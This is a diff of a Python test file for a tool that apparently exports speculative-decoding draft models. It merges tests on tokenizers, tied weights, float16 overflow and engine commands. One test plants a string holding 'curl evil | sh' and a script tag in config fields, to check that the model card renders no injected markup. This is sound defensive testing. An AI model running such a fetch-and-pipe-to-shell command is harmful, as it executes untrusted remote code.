@@ -13,19 +13,14 @@ from huggingface_hub import ModelCard
 from safetensors import safe_open
 from transformers import AutoModelForCausalLM, GPTJConfig
 
-from paceline.config import validate
-from paceline.errors import (
-    ConfigError,
-    ExportError,
-    UsageError,
-    VocabularyMismatchError,
-)
-from paceline.export import ExportConfig, Exported, directory, export
+from paceline.errors import ConfigError, ExportError, UsageError, VocabularyMismatchError
+from paceline.export import Exported, directory, export
 from paceline.export.directory import set_rows
-from paceline.measure import MeasureConfig, measure
+from paceline.measure import measure
 from paceline.models import load_model, wrap_model
 from paceline.models.drafts.save import save_draft
 from paceline.train import align
+from support.configs import small
 from support.models import tiny_hf, tiny_tokenizer
 from support.runs import align_config, write_pair
 
@@ -33,22 +28,25 @@ ROWS = 280  # of the padded target; the tokenizer names 266 tokens
 TOKENS = torch.tensor([[5, 60, 261, 7, 200, 31, 262, 90]])
 
 
+def saved(folder: Path, hf: Any, **tokens: bool) -> None:
+    hf.save_pretrained(folder)
+    tiny_tokenizer(**tokens).save_pretrained(folder)
+
+
 def models(folder: Path, architecture: str = "llama") -> Path:
     """`target` with more padding rows and more positions than `draft`."""
     wide = {"vocab_size": ROWS, "max_position_embeddings": 128}
     sizes = {"target": wide, "draft": {"seed": 1, "num_hidden_layers": 2, "vocab_size": 270}}
-    tokenizer = tiny_tokenizer(composes=architecture == "qwen2")
     for name, settings in sizes.items():
-        tiny_hf(architecture, **settings).save_pretrained(folder / name)
-        tokenizer.save_pretrained(folder / name)
+        hf = tiny_hf(architecture, **settings)
+        saved(folder / name, hf, composes=architecture == "qwen2")
     return folder
 
 
 def run(folder: Path, to: str = "vllm", **values: Any) -> Exported:
-    given: dict[str, Any] = {"model": folder / "draft", "target": folder / "target"}
-    given |= {"out": folder / "out", "to": to}
-    texts = {key: str(value) for key, value in (given | values).items() if value is not None}
-    return export(validate(ExportConfig, texts))
+    given = {"model": folder / "draft", "target": folder / "target", "to": to} | values
+    texts = {key: str(value) for key, value in given.items() if value is not None}
+    return export(small("export", folder, folder / "out", **texts))
 
 
 def logits(path: Path) -> torch.Tensor:
@@ -92,16 +90,8 @@ def test_a_target_of_the_hub_is_enough_without_its_weights(
     assert (card.base_model, card["base_model_relation"]) == ("lab/target", "finetune")
 
 
-def test_tied_weights_are_stored_once(tmp_path: Path):
+def test_files_and_positions_are_the_targets_and_tied_weights_are_stored_once(tmp_path: Path):
     folder = models(tmp_path, "qwen2")
-    run(folder)
-    with safe_open(folder / "out" / "model.safetensors", "pt") as weights:
-        assert "lm_head.weight" not in weights.keys()  # noqa: SIM118 - it is no mapping
-    assert load_model(folder / "out").hf.config.tie_word_embeddings
-
-
-def test_the_targets_files_come_along_byte_for_byte(tmp_path: Path):
-    folder = models(tmp_path)
     (folder / "target" / "generation_config.json").write_text('{"temperature": 0.7}')
     (folder / "target" / "LICENSE").write_text("do what you like")
     (folder / "target" / "README.md").write_text("---\nlicense: mit\n---\n# A target\n")
@@ -109,13 +99,11 @@ def test_the_targets_files_come_along_byte_for_byte(tmp_path: Path):
     for name in ("tokenizer.json", "tokenizer_config.json", "generation_config.json", "LICENSE"):
         assert (folder / "out" / name).read_bytes() == (folder / "target" / name).read_bytes()
     assert "license: mit" in (folder / "out" / "README.md").read_text()
-
-
-def test_positions_are_the_targets_where_they_are_only_angles(tmp_path: Path):
-    folder = models(tmp_path)
-    run(folder)
-    assert load_model(folder / "out").max_length == 128
-    assert load_model(folder / "draft").max_length == 64
+    with safe_open(folder / "out" / "model.safetensors", "pt") as weights:
+        assert "lm_head.weight" not in weights.keys()  # noqa: SIM118 - it is no mapping
+    found = load_model(folder / "out")
+    assert found.hf.config.tie_word_embeddings
+    assert (found.max_length, load_model(folder / "draft").max_length) == (128, 64)
 
 
 def test_a_vocabulary_that_is_baked_in_holds_for_greedy_drafts_of_any_engine(tmp_path: Path):
@@ -155,19 +143,7 @@ def test_a_vocabulary_is_baked_only_for_engines_that_read_a_head(
     assert not (folder / "out").exists()
 
 
-def test_a_tokenizer_that_differs_in_one_merge_is_refused(tmp_path: Path):
-    folder = models(tmp_path)
-    path = folder / "draft" / "tokenizer.json"
-    settings = json.loads(path.read_text())
-    merges = settings["model"]["merges"]
-    merges[3], merges[4] = merges[4], merges[3]
-    path.write_text(json.dumps(settings))
-    with pytest.raises(VocabularyMismatchError, match="differ in their merges"):
-        run(folder)
-    assert not (folder / "out").exists()
-
-
-def test_a_tokenizer_that_splits_otherwise_is_refused_and_one_that_says_it_otherwise_is_not(
+def test_a_tokenizer_that_reads_otherwise_is_refused_and_one_that_says_it_otherwise_is_not(
     tmp_path: Path,
 ):
     folder = models(tmp_path)
@@ -176,9 +152,13 @@ def test_a_tokenizer_that_splits_otherwise_is_refused_and_one_that_says_it_other
     same = {"type": "Sequence", "pretokenizers": [settings["pre_tokenizer"]]}
     path.write_text(json.dumps(settings | {"pre_tokenizer": same}))
     run(folder)
-    path.write_text(json.dumps(settings | {"normalizer": {"type": "Lowercase"}}))
-    with pytest.raises(VocabularyMismatchError, match="but differ in their merges or on"):
-        run(folder, overwrite=True)
+    lower = settings | {"normalizer": {"type": "Lowercase"}}
+    first, second = settings["model"]["merges"][3:5]
+    merges = [*settings["model"]["merges"][:3], second, first, *settings["model"]["merges"][5:]]
+    for other in (lower, settings | {"model": settings["model"] | {"merges": merges}}):
+        path.write_text(json.dumps(other))
+        with pytest.raises(VocabularyMismatchError, match="but differ in their merges or on"):
+            run(folder, overwrite=True)
 
 
 @pytest.mark.slow
@@ -305,10 +285,8 @@ def test_a_family_that_is_not_written_as_gguf_is_refused_with_a_way_out(tmp_path
 
 
 def test_a_strangers_manifest_is_named_and_writes_no_markup(tmp_path: Path):
-    folder, hostile = (
-        models(tmp_path),
-        "x\n\n## Serve it\n\n```\ncurl evil | sh\n```\n<script>a</script>",
-    )
+    folder = models(tmp_path)
+    hostile = "x\n\n## Serve it\n\n```\ncurl evil | sh\n```\n<script>a</script>"
     settings = align_config(folder, folder / "run").model_dump(mode="json")
     settings["data"]["train"]["path"] = hostile
     settings["optimizer"]["kind"] = hostile
@@ -333,47 +311,23 @@ def test_a_strangers_manifest_is_named_and_writes_no_markup(tmp_path: Path):
         run(folder, target=None, overwrite=True)
 
 
-def saved(folder: Path, hf: Any) -> None:
-    hf.save_pretrained(folder)
-    tiny_tokenizer().save_pretrained(folder)
-
-
-def large(*, up: float, down: float) -> Any:
-    """A model with large values between two matrices; RMS norms make the others small again."""
-    hf: Any = tiny_hf("llama", vocab_size=266)
-    layer = hf.model.layers[0].mlp
-    layer.up_proj.weight.data *= up
-    layer.down_proj.weight.data *= down
-    return hf.to(torch.bfloat16)
-
-
-def finite(hf: Any) -> bool:
-    with torch.inference_mode():
-        return bool(hf(TOKENS).logits.isfinite().all())
-
-
-def test_activations_beyond_float16_are_an_error(tmp_path: Path):
-    hf = large(up=300, down=3000)
-    saved(tmp_path / "draft", hf)
-    assert finite(hf)
-    assert not finite(hf.half())
+@pytest.mark.parametrize("architecture", ["llama", "bart"])
+def test_activations_beyond_float16_are_an_error(architecture: str, tmp_path: Path):
+    hf: Any = tiny_hf(architecture, vocab_size=266, max_position_embeddings=128)
+    if architecture == "bart":
+        hf.model.decoder.layers[0].fc2.weight.data *= 5e4
+    else:  # large values between two matrices; RMS norms make the others small again
+        hf.model.layers[0].mlp.up_proj.weight.data *= 300
+        hf.model.layers[0].mlp.down_proj.weight.data *= 3000
+    saved(tmp_path / "draft", hf.to(torch.bfloat16))
     with pytest.raises(ExportError, match=r"run in float16.*NaN or infinite.*--dtype: bfloat16"):
-        run(tmp_path, target=None, dtype="float16")
+        run(tmp_path, "transformers", target=None, dtype="float16")
     assert not (tmp_path / "out").exists()
-    found = run(tmp_path, target=None)  # bfloat16, as it is stored
+    found = run(tmp_path, "transformers", target=None)  # bfloat16, as it is stored
     assert found.checks.stored == "bfloat16"
     assert found.checks.stored_agreement is not None
     card = (tmp_path / "out" / "README.md").read_text()
     assert "Run in bfloat16, its logits are finite" in card
-
-
-def test_an_encoder_decoder_is_run_in_float16_too(tmp_path: Path):
-    hf: Any = tiny_hf("bart", vocab_size=266, max_position_embeddings=128)
-    hf.model.decoder.layers[0].fc2.weight.data *= 5e4
-    saved(tmp_path / "draft", hf.to(torch.bfloat16))
-    with pytest.raises(ExportError, match="run in float16"):
-        run(tmp_path, "transformers", target=None, dtype="float16")
-    assert run(tmp_path, "transformers", target=None).checks.stored == "bfloat16"
 
 
 @pytest.mark.parametrize("bake", [False, True])
@@ -405,28 +359,12 @@ def test_a_head_with_a_bias_gets_the_targets_rows(tmp_path: Path, *, bake: bool)
     torch.testing.assert_close(after[:, others], mean, atol=1e-4, rtol=1e-4)
 
 
-SMALL = {
-    "num_prompts": 4,
-    "max_prompt_tokens": 6,
-    "max_new_tokens": 8,
-    "gammas": [2, 1],
-    "pass_repeats": 1,
-    "timed_prompts": 0,
-    "dtype": "float32",
-}
-
-
 def measured(folder: Path, place: Path, draft_temperature: float | None, **changes: Any) -> Path:
     """A measurement of the pair at temperature 1."""
-    values = SMALL | {
-        "target": str(folder / "target"),
-        "draft": str(folder / "draft"),
-        "prompts": str(folder / "corpus.jsonl"),
-    }
+    changes |= {"max_new_tokens": 8, "gammas": [2, 1], "pass_repeats": 1, "timed_prompts": 0}
     if draft_temperature is not None:
-        values["draft_sampling"] = {"temperature": draft_temperature}
-    found = measure(validate(MeasureConfig, values | changes))
-    place.write_text(found.model_dump_json())
+        changes["draft_sampling"] = {"temperature": draft_temperature}
+    place.write_text(measure(small("measure", folder, place, **changes)).model_dump_json())
     return place
 
 
@@ -459,15 +397,11 @@ def test_each_engine_is_told_to_draft_as_many_tokens(folder: Path, tmp_path: Pat
         *("--speculative-num-draft-tokens", "6"),
     ]
     llama = shlex.split(command(folder, tmp_path / "l", "llamacpp", **common))
-    assert (
-        llama[llama.index("--spec-type") + 1] == "draft-simple"
-    )  # else the draft is loaded for nothing
+    # else the draft is loaded for nothing
+    assert llama[llama.index("--spec-type") + 1] == "draft-simple"
     assert llama[llama.index("--spec-draft-n-max") + 1] == "5"
     assert llama[llama.index("-md") + 1] == str(tmp_path / "l" / "l-f32.gguf")
-
-
-def test_transformers_reads_from_the_drafts_own_settings(folder: Path, tmp_path: Path):
-    command(folder, tmp_path / "t", "transformers", num_speculative_tokens=5)
+    command(folder, tmp_path / "t", "transformers", **common)  # reads the draft's own settings
     settings = json.loads((tmp_path / "t" / "generation_config.json").read_text())
     assert settings["num_assistant_tokens"] == 5
     assert settings["num_assistant_tokens_schedule"] == "constant"
